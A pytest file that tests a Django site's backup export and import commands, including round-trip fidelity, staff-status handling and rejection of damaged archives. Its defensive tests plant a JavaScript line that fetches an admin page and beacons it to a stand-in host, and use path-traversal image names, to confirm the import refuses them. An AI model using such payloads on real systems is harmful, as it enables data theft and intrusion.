"""`manage.py export_backup` and `import_backup`: a restore brings back every row and every image, exactly."""

import io
import json
import os
import re
import tarfile
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.db import models
from django.utils import timezone

from chat.models import Conversation, Message
from chat.services import conversation_create, conversation_rename
from classifier.models import Prediction
from classifier.services import prediction_confirm, prediction_correct
from tests.classifier.factories import make_prediction
from tests.conftest import FIXTURES, image_bytes

pytestmark = pytest.mark.django_db

PASSWORD = "correct horse battery"  # what the make_user fixture gives everyone


@pytest.fixture
def site(make_user, user, other_user, staff_user):
    """Users, predictions (reviewed and not), and conversations, one of them about a prediction."""
    make_user("carol", first_name="Carol", last_name="Jones", email="carol@example.com", is_active=False)
    user.last_login = timezone.now()
    user.save(update_fields=["last_login"])
    frog = make_prediction(user, "frog.png", image_bytes("PNG", size=(40, 30), colour=(30, 160, 40)))
    ship = make_prediction(user, "ship.jpg", image_bytes("JPEG", colour=(10, 20, 200)))
    make_prediction(other_user, "truck.jpg", image_bytes("JPEG", size=(80, 60)))
    other_label = "cat" if frog.label != "cat" else "dog"
    prediction_correct(prediction=frog, reviewer=staff_user, label=other_label)
    prediction_confirm(prediction=ship, reviewer=staff_user)
    about_frog = conversation_create(owner=user, prediction=frog)
    Message.objects.create(conversation=about_frog, role=Message.Role.USER, content="Why is this not a frog?")
    Message.objects.create(
        conversation=about_frog,
        role=Message.Role.ASSISTANT,
        content="The colours look like a cat's.",
        status=Message.Status.INCOMPLETE,
        error="Stopped.",
        model="test-model",
        tool_calls=[{"name": "list_my_predictions", "arguments": {"limit": 5}}],
        prompt_tokens=120,
        completion_tokens=30,
        stop_requested=True,
    )
    conversation_rename(conversation=about_frog, title="Frog or cat")
    conversation_create(owner=other_user)


@pytest.fixture
def backup(site, tmp_path):
    path = tmp_path / "backup.tar.gz"
    output = io.StringIO()
    call_command("export_backup", str(path), stdout=output)
    assert output.getvalue().strip() == (
        f"Exported 4 users, 3 predictions (3 images), 2 conversations (2 messages) to {path}."
    )
    return path


def import_backup(path, *options) -> str:
    output = io.StringIO()
    call_command("import_backup", str(path), *options, stdout=output)
    return output.getvalue().strip()


def natural_key(instance):
    """How a row is recognised across databases, where ids differ."""
    if isinstance(instance, User):
        return instance.username
    if isinstance(instance, Prediction):
        return instance.image.name
    return (instance.owner.username, instance.created_at)


def every_field(instance) -> dict:
    values = {}
    for field in instance._meta.concrete_fields:
        if field.primary_key or field.name in Prediction.COPIES:  # not archived: made again when first shown
            continue
        value = getattr(instance, field.name)
        if field.is_relation:
            value = natural_key(value) if value is not None else None
        elif isinstance(field, models.BinaryField):
            value = bytes(value)
        elif isinstance(field, models.FileField):
            with value.open("rb") as stored:
                value = (value.name, stored.read())
        values[field.name] = value
    return values


def everything() -> dict:
    """Every field of every row, relations by natural key, and every image's bytes."""
    return {
        model.__name__: sorted((every_field(row) for row in model.objects.all()), key=repr)
        for model in (User, Prediction, Conversation, Message)
    }


def delete_everything():
    for prediction in Prediction.objects.all():
        prediction.image.delete(save=False)
        prediction.thumbnail.delete(save=False)
    for model in (Message, Conversation, Prediction, User):
        model.objects.all().delete()


def media_files(media_root) -> list:
    return sorted(path.relative_to(media_root) for path in media_root.rglob("*") if path.is_file())


def photo_files() -> list:
    """The stored photos' names (their copies are not archived: a restore makes them again when first shown)."""
    return sorted(Path(prediction.image.name) for prediction in Prediction.objects.all())


def repack(source, target, *, leave_out=(), replace=None):
    """A copy of the archive `source` with some members left out, replaced, or added (those of `replace` that it
    does not have)."""
    replace = replace or {}
    with tarfile.open(source) as old, tarfile.open(target, "w:gz") as new:
        for member in old.getmembers():
            if member.name not in leave_out:
                data = replace.get(member.name) or old.extractfile(member).read()
                member.size = len(data)
                new.addfile(member, io.BytesIO(data))
        for name in replace.keys() - set(old.getnames()):
            member = tarfile.TarInfo(name)
            member.size = len(replace[name])
            new.addfile(member, io.BytesIO(replace[name]))
    return target


def test_a_restore_brings_back_every_field_of_every_row_and_every_image(backup, media_root):
    before = everything()
    assert len(before["Prediction"]) == 3 and len(before["Message"]) == 2
    files_before = photo_files()
    assert len(media_files(media_root)) == 6  # each photo and its thumbnail
    delete_everything()
    assert media_files(media_root) == [] and not User.objects.exists()

    output = import_backup(backup, "--restore-staff")

    assert output == (
        "Imported 4 users (0 already there), 3 predictions with 3 images (0 already there), "
        f"2 conversations with 2 messages (0 already there) from {backup}."
    )
    assert everything() == before
    assert media_files(media_root) == files_before


def test_a_site_on_object_storage_is_exported_from_its_bucket_and_restored_into_it(object_storage, backup, media_root):
    before = everything()
    stored = {prediction.image.name for prediction in Prediction.objects.all()}
    assert len(object_storage.keys()) == 6 and len(stored) == 3  # each photo and its thumbnail
    delete_everything()
    assert object_storage.keys() == set()

    import_backup(backup, "--restore-staff")

    assert everything() == before
    assert object_storage.keys() == stored
    assert media_files(media_root) == [], "nothing went to the local disk"


def test_passwords_still_work_after_a_restore(backup):
    delete_everything()
    import_backup(backup)
    for username in ("alice", "bob", "stella", "carol"):
        assert User.objects.get(username=username).check_password(PASSWORD)


def test_the_archive_has_a_manifest_and_each_image_under_its_storage_name(backup):
    with tarfile.open(backup) as archive:
        names = archive.getnames()
        manifest = json.loads(archive.extractfile("manifest.json").read())
        assert names[0] == "manifest.json"
        for prediction in Prediction.objects.all():
            with prediction.image.open("rb") as stored:
                assert archive.extractfile(f"files/{prediction.image.name}").read() == stored.read()
    assert manifest["format_version"] == 1
    assert manifest["counts"] == {"users": 4, "predictions": 3, "images": 3, "conversations": 2, "messages": 2}


def test_importing_the_same_backup_twice_adds_nothing_the_second_time(backup, media_root):
    assert "Imported 0 users (4 already there), 0 predictions with 0 images (3 already there)" in import_backup(
        backup
    ), "importing into the site it came from adds nothing"
    before, files_before = everything(), photo_files()
    delete_everything()
    import_backup(backup, "--restore-staff")
    import_backup(backup, "--restore-staff")
    assert everything() == before
    assert media_files(media_root) == files_before


def test_an_existing_user_is_kept_as_it_is(backup, make_user):
    delete_everything()
    make_user("alice", password="a newer password", email="alice@new.example.com")
    import_backup(backup)
    alice = User.objects.get(username="alice")
    assert alice.email == "alice@new.example.com" and alice.check_password("a newer password")
    assert alice.predictions.count() == 2 and alice.conversations.count() == 1


def test_staff_and_superuser_status_is_restored_only_when_asked(backup):
    delete_everything()
    output = import_backup(backup)
    assert output.splitlines()[-1] == (
        "Created 1 users without the staff or superuser status the archive gives them (stella): grant it again in "
        "the admin, or import into an empty site with --restore-staff."
    )
    stella = User.objects.get(username="stella")
    assert not stella.is_staff and not stella.is_superuser
    assert stella.check_password(PASSWORD), "the account itself survives"

    delete_everything()
    assert "without the staff" not in import_backup(backup, "--restore-staff")
    stella = User.objects.get(username="stella")
    assert stella.is_staff and stella.is_superuser


def test_restoring_staff_status_never_changes_an_existing_user(backup, make_user):
    delete_everything()
    make_user("stella")
    assert "without the staff" not in import_backup(backup, "--restore-staff")
    stella = User.objects.get(username="stella")
    assert not stella.is_staff and not stella.is_superuser


def with_last_image(backup, path, *, name, data, content_type):
    """A copy of the archive whose last prediction's image is `data`, archived as `name` with `content_type`."""
    with tarfile.open(backup) as archive:
        rows = [json.loads(line) for line in archive.extractfile("predictions.jsonl").read().splitlines()]
    archived_name = rows[-1]["image"]
    rows[-1] |= {"image": name, "content_type": content_type}
    written = "".join(json.dumps(row) + "\n" for row in rows).encode()
    replace = {"predictions.jsonl": written, f"files/{name}": data}
    return repack(backup, path, leave_out={f"files/{archived_name}"}, replace=replace)


def test_an_archived_image_gets_the_content_type_and_suffix_of_what_its_bytes_are(backup, tmp_path):
    truck = Prediction.objects.order_by("pk").last()
    jpeg = truck.image.read()
    truck.image.close()
    disguised = with_last_image(
        backup, tmp_path / "disguised.tar.gz", name="predictions/x.js", data=jpeg, content_type="text/javascript"
    )
    delete_everything()
    import_backup(disguised)
    restored = Prediction.objects.get(original_name="truck.jpg")
    assert restored.image.name == "predictions/x.jpg" and restored.content_type == "image/jpeg"
    assert restored.image.read() == jpeg
    restored.image.close()


def test_an_archived_file_that_is_not_an_accepted_image_is_a_one_line_error_and_changes_nothing(
    backup, tmp_path, media_root
):
    script = with_last_image(
        backup,
        tmp_path / "script.tar.gz",
        name="predictions/x.js",
        data=b"fetch('/admin/').then(page => navigator.sendBeacon('//example.invalid', page));\n",
        content_type="text/javascript",
    )
    delete_everything()
    with pytest.raises(
        CommandError, match="The image predictions/x.js in the archive is refused: it is not a"
    ) as error:
        import_backup(script)
    assert "\n" not in str(error.value)
    assert not User.objects.exists() and not Prediction.objects.exists() and not Conversation.objects.exists()
    assert media_files(media_root) == []


@pytest.mark.parametrize("name", ["../outside.jpg", "/etc/outside.jpg", ".", "predictions/.."])
def test_an_image_name_outside_storage_or_without_a_file_name_is_refused(backup, tmp_path, media_root, name):
    with tarfile.open(backup) as archive:
        jpeg = archive.extractfile(f"files/{Prediction.objects.order_by('pk').last().image.name}").read()
    unsafe = with_last_image(backup, tmp_path / "unsafe.tar.gz", name=name, data=jpeg, content_type="image/jpeg")
    delete_everything()
    with pytest.raises(CommandError, match="not a safe storage name"):
        import_backup(unsafe)
    assert not Prediction.objects.exists() and media_files(media_root) == []


def test_an_identical_image_in_storage_is_reused_and_a_different_one_is_never_overwritten(backup, media_root):
    frog, ship = Prediction.objects.filter(original_name__in=["frog.png", "ship.jpg"]).order_by("original_name")
    frog_bytes = frog.image.read()
    frog.image.close()
    frog_name, ship_name = frog.image.name, ship.image.name
    delete_everything()
    storage = frog.image.storage
    storage.save(frog_name, io.BytesIO(frog_bytes))
    storage.save(ship_name, io.BytesIO(b"someone else's file"))

    import_backup(backup)

    assert Prediction.objects.get(original_name="frog.png").image.name == frog_name
    with storage.open(ship_name) as stored:
        assert stored.read() == b"someone else's file"
    restored_ship = Prediction.objects.get(original_name="ship.jpg")
    assert restored_ship.image.name != ship_name
    assert restored_ship.image.read() != b"someone else's file"
    restored_ship.image.close()


def test_an_archive_missing_an_image_imports_nothing_and_leaves_no_files_behind(backup, tmp_path, media_root):
    last_image = f"files/{Prediction.objects.order_by('pk').last().image.name}"
    broken = repack(backup, tmp_path / "broken.tar.gz", leave_out={last_image})
    delete_everything()
    with pytest.raises(CommandError, match=f"The archive has no {last_image}"):
        import_backup(broken)
    assert not User.objects.exists() and not Prediction.objects.exists()
    assert media_files(media_root) == []


def test_an_archive_from_before_a_new_field_imports_with_the_fields_default(backup, tmp_path, media_root):
    """Archives written before heat maps were kept on predictions have no `heat_map`: they still restore."""
    with tarfile.open(backup) as archive:
        rows = [json.loads(line) for line in archive.extractfile("predictions.jsonl").read().splitlines()]
    older = "".join(json.dumps({k: v for k, v in row.items() if k != "heat_map"}) + "\n" for row in rows)
    assert all("heat_map" in row for row in rows)
    older_archive = repack(backup, tmp_path / "older.tar.gz", replace={"predictions.jsonl": older.encode()})
    delete_everything()
    assert "Imported 4 users" in import_backup(older_archive)
    assert Prediction.objects.count() == 3 and not Prediction.objects.filter(heat_map__isnull=False).exists()


def not_an_archive(backup, path):
    path.write_bytes(b"just some text")
    return path


def cut_short(backup, path):
    path.write_bytes(backup.read_bytes()[:2000])
    return path


def without_a_manifest(backup, path):
    return repack(backup, path, leave_out={"manifest.json"})


def from_a_future_version(backup, path):
    manifest = {"format": "classifier-backup", "format_version": 99, "counts": {}}
    return repack(backup, path, replace={"manifest.json": json.dumps(manifest).encode()})


@pytest.mark.parametrize(
    ("make_archive", "message"),
    [
        (not_an_archive, "is not a backup archive"),
        (cut_short, "is damaged"),
        (without_a_manifest, "is not a backup made by export_backup"),
        (from_a_future_version, "is in backup format version 99; this site reads version 1"),
    ],
)
def test_a_wrong_or_damaged_archive_is_a_one_line_error_and_changes_nothing(
    backup, tmp_path, media_root, make_archive, message
):
    wrong = make_archive(backup, tmp_path / "wrong.tar.gz")
    delete_everything()
    with pytest.raises(CommandError, match=message) as error:
        import_backup(wrong)
    assert "\n" not in str(error.value)
    assert not User.objects.exists() and not Prediction.objects.exists() and not Conversation.objects.exists()
    assert media_files(media_root) == []


def test_an_archive_from_before_a_field_was_renamed_restores_it(backup, tmp_path):
    """Archives written before `keeps_title` had its name hold it as `title_set_by_user`."""
    with tarfile.open(backup) as archive:
        rows = [json.loads(line) for line in archive.extractfile("conversations.jsonl").read().splitlines()]
    for row in rows:
        row["title_set_by_user"] = row.pop("keeps_title")
    older = repack(
        backup,
        tmp_path / "older.tar.gz",
        replace={"conversations.jsonl": "".join(json.dumps(row) + "\n" for row in rows).encode()},
    )
    delete_everything()
    import_backup(older)
    assert Conversation.objects.get(title="Frog or cat").keeps_title
    assert not Conversation.objects.get(owner__username="bob").keeps_title


@pytest.mark.parametrize(
    ("written", "stands_for"),
    [
        ('"cat": 0.1220523170e605299', "a probability too large for a float (found by fuzzing)"),
        ('"cat": NaN', "NaN, which Python writes and JSON does not allow"),
        ('"cat": -Infinity', "-Infinity, likewise"),
        ('"width": 100000000000000000000000000000', "a width too large for the database's integer"),
        ('"original_name": "' + "x" * 300 + '"', "a name longer than its column (PostgreSQL refuses it)"),
    ],
)
def test_numbers_no_database_can_store_are_a_one_line_error_and_change_nothing(
    backup, tmp_path, media_root, written, stands_for
):
    with tarfile.open(backup) as archive:
        lines = archive.extractfile("predictions.jsonl").read().decode().splitlines(keepends=True)
    name, _ = written.split(": ")
    lines[-1] = re.sub(f"{name}: [^,}}]+", written, lines[-1], count=1)
    assert written in lines[-1], stands_for
    wrong = repack(backup, tmp_path / "wrong.tar.gz", replace={"predictions.jsonl": "".join(lines).encode()})
    delete_everything()
    with pytest.raises(CommandError, match="damaged|bad value") as error:
        import_backup(wrong)
    assert "\n" not in str(error.value)
    assert not User.objects.exists() and not Prediction.objects.exists()
    assert media_files(media_root) == []


@pytest.mark.parametrize(
    ("member", "key", "value", "message"),
    [
        ("predictions.jsonl", "owner", None, "An archived prediction has no owner"),  # found by fuzzing
        ("predictions.jsonl", "owner", ["carol"], "refers to a user"),
        ("conversations.jsonl", "owner", None, "An archived conversation has no owner"),
        ("conversations.jsonl", "prediction", [1], "refers to prediction"),
        ("conversations.jsonl", "messages", None, "has no list of messages"),
        ("conversations.jsonl", "messages", ["hello"], "An archived message has no"),
        ("users.jsonl", "username", None, "username cannot be empty"),
        ("predictions.jsonl", "label", None, "label cannot be empty"),
    ],
)
def test_a_row_without_what_it_belongs_to_is_a_one_line_error_and_changes_nothing(
    backup, tmp_path, media_root, member, key, value, message
):
    with tarfile.open(backup) as archive:
        rows = [json.loads(line) for line in archive.extractfile(member).read().splitlines()]
    rows[-1][key] = value
    written = "".join(json.dumps(row) + "\n" for row in rows).encode()
    wrong = repack(backup, tmp_path / "wrong.tar.gz", replace={member: written})
    delete_everything()
    with pytest.raises(CommandError, match=message):
        import_backup(wrong)
    assert not User.objects.exists() and not Prediction.objects.exists() and not Conversation.objects.exists()
    assert media_files(media_root) == []


@pytest.mark.parametrize(
    ("archive", "message"),
    [
        ("backup-probability-too-large.tar.gz", "too large"),  # a mutated digit: 0.12e605299
        ("backup-prediction-without-owner.tar.gz", "has no owner"),  # a mutated key: no "owner"
    ],
)
def test_the_archives_the_fuzzer_found_are_refused(media_root, archive, message):
    with pytest.raises(CommandError, match=message):
        import_backup(FIXTURES / "fuzz" / archive)
    assert not Prediction.objects.exists() and media_files(media_root) == []


def test_an_archive_that_does_not_exist_is_a_one_line_error(tmp_path):
    with pytest.raises(CommandError, match="does not exist"):
        import_backup(tmp_path / "missing.tar.gz")


def test_the_archive_is_readable_by_its_owner_alone_whatever_the_umask(site, tmp_path):
    path = tmp_path / "backup.tar.gz"
    path.write_bytes(b"an older archive")
    path.chmod(0o644)
    permissive = os.umask(0o022)
    try:
        call_command("export_backup", str(path), stdout=io.StringIO())
    finally:
        os.umask(permissive)
    assert os.stat(path).st_mode & 0o777 == 0o600
    with tarfile.open(path) as archive:
        assert archive.getnames()[0] == "manifest.json"


def test_a_failed_export_leaves_no_archive_behind(site, tmp_path):
    Prediction.objects.first().image.delete(save=False)
    path = tmp_path / "backup.tar.gz"
    with pytest.raises(CommandError, match="cannot be read from storage"):
        call_command("export_backup", str(path), stdout=io.StringIO())
    assert list(tmp_path.iterdir()) == [tmp_path / "media"]
